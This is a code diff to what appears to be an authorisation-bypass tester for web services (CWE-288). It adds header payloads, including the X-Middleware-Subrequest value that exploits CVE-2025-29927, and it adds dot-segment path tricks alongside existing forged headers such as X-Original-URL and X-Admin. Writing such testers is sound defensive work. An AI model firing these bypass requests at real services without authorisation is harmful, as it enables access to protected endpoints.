@@ -1,7 +1,8 @@
 """Detours past a guard (CWE-288): other spellings of a path, parameters for developers, headers of a proxy.
 
 A guard may also look at another path than the one that is served: that of an older version which was never switched
-off, or a public one where a header names the private one (X-Original-URL, as some proxies rewrite).
+off, or a public one where a header names the private one (X-Original-URL, as some proxies rewrite) or which is left
+again by a dot segment. Or it may let pass what says to have passed it before (CVE-2025-29927), or what a page asks for.
 
 What is answered has the shape of the owner's answer, or it is no way in: services that show a page of their own for
 every unknown path let nobody past anything.
@@ -36,6 +37,8 @@ HEADERS = (
     ("X-Debug", "true"),
     ("X-Admin", "true"),
     ("X-Authenticated", "true"),
+    ("X-Requested-With", "XMLHttpRequest"),
+    ("X-Middleware-Subrequest", ":".join(["middleware"] * 5)),
     ("Referer", "http://localhost/"),
     (
         "User-Agent",
@@ -83,9 +86,8 @@ async def _try(lab: Lab, specimen: Specimen, covers: Sequence[Exchange]) -> Obse
     for name, other in _detours(lab, request):
         tried.append((name, await lab.send(nobody, other, purpose="attempt", forged=name), plain))
     for cover in covers if request.method == "GET" else ():
-        name = f"{REWRITTEN[0]} at {cover.request.target}"
-        rewritten = replace(cover.request, headers=tuple((header, request.target) for header in REWRITTEN))
-        tried.append((name, await lab.send(nobody, rewritten, purpose="attempt", forged=name), cover))
+        for name, other in _behind(cover.request, request):
+            tried.append((name, await lab.send(nobody, other, purpose="attempt", forged=name), cover))
     control = await specimen.accepted()
     if plain.ok:
         sentence = f"{operation} answers anybody, so there is nothing to get past"
@@ -111,6 +113,15 @@ def _detours(lab: Lab, request: Request) -> Iterator[tuple[str, Request]]:
     if request.method == "GET":
         yield from spellings(lab, request)
         yield from _versions(lab, request)
+
+
+def _behind(cover: Request, request: Request) -> Iterator[tuple[str, Request]]:
+    """Walk the disguises of a request as one for a public path: by headers of a proxy, and by a way out of it."""
+    rewritten = tuple((header, request.target) for header in REWRITTEN)
+    yield f"{REWRITTEN[0]} at {cover.target}", replace(cover, headers=rewritten)
+    path = cover.target.partition("?")[0].rstrip("/")
+    if path:
+        yield f"{path}/.. before its path", replace(request, target=f"{path}/..{request.target}", operation=None)
 
 
 def _versions(lab: Lab, request: Request) -> Iterator[tuple[str, Request]]:
